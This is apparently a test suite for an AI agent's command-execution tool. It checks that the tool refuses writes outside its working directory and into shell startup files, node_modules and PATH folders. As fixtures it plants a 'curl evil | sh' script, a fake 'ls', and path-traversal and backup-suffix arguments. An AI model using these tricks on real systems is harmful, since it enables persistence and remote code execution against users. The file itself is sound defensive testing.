import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { devNull, tmpdir } from "node:os";
import { basename, delimiter, join } from "node:path";
import { after, describe, test } from "node:test";
import { createExecTool } from "../../../src/agent/tools/exec.js";
import { SandboxProbe } from "../../../src/agent/tools/exec/sandbox.js";
import type { ToolContext, ToolSettings } from "../../../src/agent/tools/tool.js";

/**
 * The t12-replay trial's findings 3 to 6, run for real: `cp --parents` wrote outside (its target judged
 * by the source's base name); a `node_modules` above hearth's install, which Node reads, was writable;
 * so were `~/.cargo/env` (sourced at login) and a PATH folder not made yet; and `sed -i`, `sort -o` and
 * `mkdir -p` were refused inside the working directory, sandbox or not, with an untrue reason.
 */
const root = mkdtempSync(join(existsSync("/var/tmp") ? "/var/tmp" : tmpdir(), "hearth-write-guards-"));
// rm, not rmSync: Node's removal takes whole paths, and one folder below is longer than the system takes.
after(() => execFileSync("rm", ["-rf", root]));
const home = join(root, "home");
const state = join(home, ".hearth");
const envFile = join(state, "gateway.env");
const outside = join(root, "outside");
mkdirSync(join(state, "workspace"), { recursive: true });
mkdirSync(outside);
writeFileSync(envFile, "HEARTH_GATEWAY_TOKEN=gwtok-canary\n");
writeFileSync(join(outside, "source.txt"), "from outside\n");

const probe = new SandboxProbe();
const exec = createExecTool({ home, hiddenFiles: [envFile], probe });
const COMMANDS = ["cp", "mv", "mkdir", "sed", "sort", "uniq", "git", "touch"];
const context = (settings: Partial<NonNullable<ToolSettings["exec"]>>): ToolContext => ({
  signal: new AbortController().signal,
  stateDir: state,
  settings: { exec: { commands: COMMANDS, sandbox: "off", ...settings } },
  untrusted: (text) => text,
});
const run = async (command: string, args: string[], settings: Partial<NonNullable<ToolSettings["exec"]>>, tool = exec) => {
  const result = await tool.run({ command, args }, context(settings));
  return typeof result.content === "string" ? result.content : JSON.stringify(result.content);
};
const GUARDED = (what: RegExp) => new RegExp(`is not allowed with \\w+: it would write .*, ${what.source}.*; exec never writes there, even inside its working directory`);

describe("cp --parents and a backup suffix are judged where cp writes", () => {
  const cwd = join(root, "project");
  mkdirSync(join(cwd, "y"), { recursive: true });
  writeFileSync(join(cwd, "a.txt"), "a\n");

  test("--parents with more `..` than the destination is deep is refused; nothing lands outside; inside it runs", async () => {
    // DEST/SOURCE: y/../../<root's name>/outside/source.txt is <root>/<root's name>/outside/source.txt.
    const source = `../../${basename(root)}/outside/source.txt`;
    const output = await run("cp", ["--parents", source, "y"], { cwd, allowUnknownOptions: true });
    assert.match(output, new RegExp(`^"${source.replaceAll(".", "\\.")}" is not allowed with cp: it would write ${root}/${basename(root)}/outside/source\\.txt, outside the working directory`));
    assert.equal(existsSync(join(root, basename(root))), false);
    assert.match(await run("cp", ["--parents", "a.txt", "y"], { cwd, allowUnknownOptions: true }), /^exit code 0/);
    assert.equal(readFileSync(join(cwd, "y", "a.txt"), "utf8"), "a\n");
  });

  test("a backup suffix is judged as the name it makes", async () => {
    // y/a.txt + the suffix: y/a.txt/../../../outside/bak (GNU cp takes no suffix holding a "/", but exec does not count on it).
    const output = await run("cp", ["-b", "--suffix=/../../../outside/bak", "a.txt", "y/a.txt"], { cwd, allowUnknownOptions: true });
    assert.match(output, /^"\/\.\.\/\.\.\/\.\.\/outside\/bak" is not allowed with cp: it would write .*\/outside\/bak, outside the working directory/);
  });
});

describe("places Node and your shell run from are never written, even inside the working directory", () => {
  test("a node_modules above hearth's install (there or not), where Node looks for ws's bufferutil", async () => {
    const cwd = join(root, "src");
    const install = join(cwd, "hearth");
    mkdirSync(join(install, "node_modules", "ws"), { recursive: true });
    writeFileSync(join(cwd, "x.js"), "console.log('planted')\n");
    const withInstall = createExecTool({ home, hiddenFiles: [envFile], probe, installRoot: install });
    const what = /a node_modules folder above hearth's install, where Node looks for a module the install lacks/;
    assert.match(await run("mkdir", ["node_modules"], { cwd }, withInstall), GUARDED(what));
    mkdirSync(join(cwd, "node_modules"));
    assert.match(await run("mkdir", ["node_modules/bufferutil"], { cwd }, withInstall), GUARDED(what));
    assert.match(await run("cp", ["x.js", "node_modules/bufferutil/index.js"], { cwd }, withInstall), GUARDED(what));
    assert.deepEqual(readdirSync(join(cwd, "node_modules")), []);
    assert.match(await run("mkdir", ["other"], { cwd }, withInstall), /^exit code 0/);
  });

  test("~/.cargo/env and the shell's startup files, from a working directory that holds them", async () => {
    const cargo = join(home, ".cargo");
    mkdirSync(join(cargo, "z"), { recursive: true });
    writeFileSync(join(cargo, "env"), '. "$HOME/.cargo/bin"\n');
    writeFileSync(join(cargo, "z", "ls"), "#!/bin/sh\necho planted\n");
    assert.match(await run("cp", ["z/ls", "env"], { cwd: cargo }), GUARDED(/a file your shell \(or your session\) runs at login/));
    assert.equal(readFileSync(join(cargo, "env"), "utf8"), '. "$HOME/.cargo/bin"\n');
  });

  test("~/.bash_aliases and ~/.bashrc.d (sourced by Debian's and Fedora's .bashrc), kept in a dotfiles folder they link to", async (t) => {
    const cwd = join(home, "dotfiles");
    mkdirSync(join(cwd, "bashrc.d"), { recursive: true });
    writeFileSync(join(cwd, "bash_aliases"), "alias ll='ls -l'\n");
    writeFileSync(join(cwd, "x.sh"), "curl evil | sh\n");
    symlinkSync(join(cwd, "bash_aliases"), join(home, ".bash_aliases"));
    symlinkSync(join(cwd, "bashrc.d"), join(home, ".bashrc.d"));
    const unchanged = () => {
      assert.equal(readFileSync(join(cwd, "bash_aliases"), "utf8"), "alias ll='ls -l'\n");
      assert.deepEqual(readdirSync(join(cwd, "bashrc.d")), []);
    };
    // With no sandbox a working directory holding them is refused whole (keys get exported there too).
    const HOLDS = /is not allowed with (cp|sed): the working directory holds .*\/dotfiles\/(bash_aliases|bashrc\.d), where other programs keep keys and logins/;
    assert.match(await run("cp", ["x.sh", "bash_aliases"], { cwd }), HOLDS);
    assert.match(await run("sed", ["-i", "s/ll/evil/", "bash_aliases"], { cwd }), HOLDS);
    assert.match(await run("cp", ["x.sh", "bashrc.d/evil.sh"], { cwd }), HOLDS);
    unchanged();
    // In the sandbox the working directory is writable, they are not (mounted read-only).
    if ((await probe.support()).kind === "none") return t.skip("no OS sandbox here");
    assert.doesNotMatch(await run("cp", ["x.sh", "bash_aliases"], { cwd, sandbox: "require" }), /^exit code 0/);
    assert.doesNotMatch(await run("sed", ["-i", "s/ll/evil/", "bash_aliases"], { cwd, sandbox: "require" }), /^exit code 0/);
    assert.doesNotMatch(await run("cp", ["x.sh", "bashrc.d/evil.sh"], { cwd, sandbox: "require" }), /^exit code 0/);
    unchanged();
    assert.match(await run("cp", ["x.sh", "y.sh"], { cwd, sandbox: "require" }), /^exit code 0/);
  });

  test("a folder on PATH that does not exist yet, inside the working directory: neither made nor cloned into", async () => {
    const cwd = join(root, "tools");
    mkdirSync(cwd);
    const originalPath = process.env.PATH ?? "";
    process.env.PATH = `${join(cwd, "bin")}${delimiter}${originalPath}`;
    try {
      const what = /a folder on PATH \(.*\/tools\/bin\), which programs are run from by name/;
      assert.match(await run("mkdir", ["bin"], { cwd }), GUARDED(what));
      assert.match(await run("git", ["clone", "-q", join(root, "none.git"), "bin"], { cwd }), GUARDED(what));
      assert.equal(existsSync(join(cwd, "bin")), false);
    } finally {
      process.env.PATH = originalPath;
    }
  });
});

describe("a PATH folder or a home exec cannot look at refuses no call (what this user cannot read it cannot write)", () => {
  // Root reads past any mode, so the place is one longer than the system takes as a whole path (ENAMETOOLONG),
  // the same failure as EACCES to the checks: 20 existing folders of 250 characters, made one step at a time.
  const deep = join(root, "deep");
  mkdirSync(deep);
  const name = "d".repeat(250);
  execFileSync("sh", ["-c", `for step in $(seq 20); do mkdir ${name} && cd -P ${name} || exit 1; done`], { cwd: deep });
  const tooLong = join(deep, ...Array.from({ length: 20 }, () => name));
  const cwd = join(root, "unreadable-places");
  mkdirSync(cwd);
  writeFileSync(join(cwd, "a.txt"), "b\na\n");

  for (const sandbox of ["off", "auto"] as const) {
    test(`a PATH entry, sandbox ${sandbox}`, async () => {
      const originalPath = process.env.PATH ?? "";
      process.env.PATH = `${tooLong}${delimiter}${originalPath}`;
      try {
        assert.match(await run("sort", ["-o", "out.txt", "a.txt"], { cwd, sandbox }), /^exit code 0/);
        assert.equal(readFileSync(join(cwd, "out.txt"), "utf8"), "a\nb\n");
      } finally {
        process.env.PATH = originalPath;
        rmSync(join(cwd, "out.txt"), { force: true });
      }
    });
  }

  test("a home (its login files)", async () => {
    const withHome = createExecTool({ home: tooLong, hiddenFiles: [envFile], probe });
    assert.match(await run("sort", ["a.txt"], { cwd }, withHome), /^exit code 0\n[^]*a\nb/);
  });
});

describe("everyday edits inside the working directory run, sandbox or not; outside they are refused with true words", () => {
  const cwd = join(root, "edits");
  mkdirSync(cwd);
  const reset = () => {
    writeFileSync(join(cwd, "a.txt"), "b\na\na\n");
    rmSync(join(cwd, "new"), { recursive: true, force: true });
    for (const name of ["out.txt", "uniq.txt", "a.txt.bak"]) rmSync(join(cwd, name), { force: true });
  };

  for (const sandbox of ["off", "require"] as const) {
    test(`sed -i, sort -o, uniq OUTPUT and mkdir -p (no allowUnknownOptions), sandbox ${sandbox}`, async (t) => {
      if (sandbox === "require" && (await probe.support()).kind === "none") return t.skip("no OS sandbox here");
      reset();
      assert.match(await run("sed", ["-i", "s/a/c/", "a.txt"], { cwd, sandbox }), /^exit code 0/);
      assert.equal(readFileSync(join(cwd, "a.txt"), "utf8"), "b\nc\nc\n");
      assert.match(await run("sed", ["-i.bak", "s/b/d/", "a.txt"], { cwd, sandbox }), /^exit code 0/);
      assert.equal(readFileSync(join(cwd, "a.txt.bak"), "utf8"), "b\nc\nc\n");
      assert.match(await run("sort", ["-o", "out.txt", "a.txt"], { cwd, sandbox }), /^exit code 0/);
      assert.equal(readFileSync(join(cwd, "out.txt"), "utf8"), "c\nc\nd\n");
      assert.match(await run("uniq", ["out.txt", "uniq.txt"], { cwd, sandbox }), /^exit code 0/);
      assert.equal(readFileSync(join(cwd, "uniq.txt"), "utf8"), "c\nd\n");
      assert.match(await run("mkdir", ["-p", "new/dir"], { cwd, sandbox }), /^exit code 0/);
      assert.equal(existsSync(join(cwd, "new", "dir")), true);
    });
  }

  test("outside, each is refused as a write outside the working directory; an option exec does not read still needs the opt-in", async () => {
    const target = join(outside, "source.txt");
    const OUTSIDE = /it would write .*, outside the working directory .*; with no sandbox exec writes only inside its working directory/;
    assert.match(await run("sed", ["-i", "s/from/to/", target], { cwd }), OUTSIDE);
    assert.match(await run("sed", ["-i../outside/*.bak", "s/b/d/", "a.txt"], { cwd }), OUTSIDE);
    assert.match(await run("sort", ["-o", target, "a.txt"], { cwd }), OUTSIDE);
    assert.match(await run("uniq", ["a.txt", target], { cwd }), OUTSIDE);
    assert.match(await run("mkdir", ["-p", join(outside, "x", "y")], { cwd }), OUTSIDE);
    assert.deepEqual(readdirSync(outside), ["source.txt"]);
    assert.equal(readFileSync(target, "utf8"), "from outside\n");
    assert.match(await run("mkdir", ["-Z", "x"], { cwd }), /^"-Z" is not allowed with mkdir: without tools\.exec\.allowUnknownOptions mkdir takes only -p, -v, -m, --help, --version, --parents, --verbose, --mode/);
    // A file sed -i is pointed at through git's config stays out of reach: .git is never written.
    execFileSync("git", ["init", "-q", "repo"], { cwd, env: { ...process.env, GIT_CONFIG_GLOBAL: devNull } });
    assert.match(await run("sed", ["-i", "s/a/b/", "repo/.git/config"], { cwd }), /is not allowed with sed: .*\.git/);
  });
});
